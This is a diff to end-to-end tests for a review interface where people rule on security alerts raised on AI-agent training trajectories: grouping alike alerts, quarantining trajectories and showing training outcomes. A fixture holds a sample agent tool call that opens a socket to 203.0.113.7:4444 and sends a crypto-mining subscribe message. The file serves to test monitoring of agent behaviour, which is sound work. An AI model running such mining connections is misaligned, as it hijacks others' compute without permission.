@@ -72,6 +72,25 @@ class Trouble(Story):
         place = {"trajectory": trajectory, "turn": turn}
         return self.event("alert", id=f"{BOX}/{number + 1}", place=place, finding=finding, quarantined=quarantined)
 
+    def alike(self, count: int, *, rule: int, first: int = 0) -> list[Event]:
+        """Alerts of the same rule about the same destination, each of another trajectory."""
+        events = []
+        for number in range(first, first + count):
+            alarm = self.alarm(rule, f"train-2-0-{number}")
+            events.append(alarm | {"id": f"{BOX}/{rule}-{number}"})
+        return events
+
+    def turn_of_alert(self, trajectory: str, turn: int, **more: str) -> Event:
+        code = 'import socket\ns = socket.create_connection(("203.0.113.7", 4444))\ns.send(b"mining.subscribe")'
+        text = {"wrote": f"<tool>{code}</tool>", "call": code, **more}
+        return self.event("turn", place={"trajectory": trajectory, "turn": turn}, text=text)
+
+    def settled(self, trajectory: str) -> Event:
+        return self.event(
+            "settled", step=3, trajectory=trajectory, outcome="trained-on", updates_since=1, advantage=0.7, reward=0.9,
+            group_mean=0.4, group_size=8, rewards_differ=True,
+        )  # fmt: skip
+
     def frozen(self, trajectory: str) -> Event:
         _, step, group, index = trajectory.split("-")
         told = self.trajectory("train", int(step), int(group), int(index))
@@ -190,6 +209,10 @@ def test_a_reviewer_follows_an_alert_to_its_turn_and_rules(
     expect(page.locator("#security .figure").first).to_contain_text("245", timeout=PATIENCE_MS)
     page.get_by_label("Verdict").select_option("allowed")
     expect(page.locator("#security .records tbody tr")).to_have_count(3, timeout=PATIENCE_MS)
+    expect(page).to_have_url(f"{web.url}/runs/{run.id}/?tab=security&verdict=allowed")
+    page.reload()
+    expect(page.get_by_label("Verdict")).to_have_value("allowed", timeout=PATIENCE_MS)
+    expect(page.locator("#security .records tbody tr")).to_have_count(3)
     page.get_by_role("link", name="Clear").click()
     expect(page.locator("#security .records tbody tr")).to_have_count(7, timeout=PATIENCE_MS)
     faults += pictures(page, "run")
@@ -226,4 +249,85 @@ def test_the_inbox_rules_by_keyboard_and_another_reviewer_sees_it(
     his.keyboard.press("?")
     expect(his.locator("#keys-dialog")).to_contain_text("Rule it malicious")
     assert Alert.objects.filter(state="open").count() == 1
+    assert complaints == []
+
+
+def test_alike_alerts_are_marked_and_decided_together(
+    web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
+) -> None:
+    engine, story, run = trouble
+    engine.tell(story.alike(120, rule=0) + story.alike(3, rule=1, first=200) + story.alike(1, rule=3, first=300), 1)
+    page = tab()
+    sign_in(page, web, rita)
+    page.goto(f"{web.url}/alerts/")
+    rows = page.locator("tr[data-alert]")
+    expect(rows).to_have_count(3)
+    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
+    faults = pictures(page, "groups")
+
+    # A group opens to its alerts, and stays open and marked when the list is fetched again.
+    for _ in range(3):
+        page.keyboard.press("j")
+    expect(page.locator("tr.is-selected")).to_contain_text("Mining protocol")
+    page.keyboard.press("o")
+    expect(page.locator(".alike-row .main-link")).to_have_count(50, timeout=PATIENCE_MS)
+    page.keyboard.press("x")
+    expect(page.locator("[data-marked]")).to_have_text("1 row marked: 120 alerts.")
+    engine.tell(story.alike(1, rule=2, first=400), 1)
+    expect(rows).to_have_count(4, timeout=PATIENCE_MS)
+    expect(page.locator("[data-marked]")).to_have_text("1 row marked: 120 alerts.")
+    expect(page.locator(".alike-row .main-link")).to_have_count(50, timeout=PATIENCE_MS)
+    faults += pictures(page, "groups-open")
+
+    page.keyboard.press("1")
+    expect(page.locator("#ruling-title")).to_have_text("Rule 120 alerts benign?")
+    page.get_by_role("button", name="Not now").click()
+    assert Quarantine.objects.filter(state="pending").count() == 123
+    page.keyboard.press("1")
+    page.keyboard.press("Enter")
+    expect(page.locator(".notices")).to_contain_text("120 trajectories ruled benign", timeout=PATIENCE_MS)
+    expect(rows).to_have_count(3, timeout=PATIENCE_MS)
+    expect(page.locator(".nav [data-open-alerts]")).to_have_text("5", timeout=PATIENCE_MS)
+
+    # With the shift key a mark reaches from the last one to this one; the button asks before it acts.
+    marks = page.locator('input[name="like"]')
+    marks.first.click()
+    marks.last.click(modifiers=["Shift"])
+    expect(page.locator("[data-marked]")).to_have_text("3 rows marked: 5 alerts.")
+    page.get_by_role("button", name="Malicious").first.click()
+    expect(page.locator("#ruling-title")).to_have_text("Rule 5 alerts malicious?")
+    page.locator("#ruling-confirm").click()
+    expect(page.locator(".notices")).to_contain_text("3 trajectories ruled malicious; 5 alerts decided")
+    expect(page.get_by_text("No open alerts")).to_be_visible()
+    assert Quarantine.objects.filter(state="malicious").count() == 3
+    # The page is another one after the decision; its keys are there once its scripts are.
+    expect(page.locator("html")).to_have_attribute("data-alerts", "live", timeout=PATIENCE_MS)
+    page.keyboard.press("?")
+    for said in ("Mark the alert", "Show all alike", "Rule it benign", "Acknowledge"):
+        expect(page.locator("#keys-dialog")).to_contain_text(said)
+    assert faults == []
+    assert complaints == []
+
+
+def test_the_page_of_an_alert_shows_its_turn_at_once_and_what_the_ruling_did(
+    web: Web, rita: User, trouble: Any, tab: Callable[..., Page], complaints: list[str]
+) -> None:
+    engine, story, run = trouble
+    held = "train-2-0-1"
+    engine.tell([story.turn_of_alert(held, 1), *story.trouble(held, 1), story.alarm(0, held, 1)], 1)
+    page = tab()
+    sign_in(page, web, rita)
+    page.goto(f"{web.url}/alerts/{Alert.objects.get().id}/")
+    expect(page.locator("#turn-card")).to_contain_text("under way")
+    faults = pictures(page, "alert-fresh")
+    engine.tell([story.turn_of_alert(held, 1, output="stopped by alert mining-stratum", error_class="frozen")], 1)
+    expect(page.locator("#turn-card")).to_contain_text("stopped by alert mining-stratum", timeout=PATIENCE_MS)
+    page.keyboard.press("1")
+    page.keyboard.press("Enter")
+    expect(page.locator("[data-effect]")).to_contain_text("takes effect in the run's next step", timeout=PATIENCE_MS)
+    engine.tell([story.frozen(held), story.settled(held)], 3)
+    page.reload()
+    expect(page.locator("[data-effect]")).to_contain_text("Trained on at step 3, advantage +0.7")
+    faults += pictures(page, "alert-settled")
+    assert faults == []
     assert complaints == []
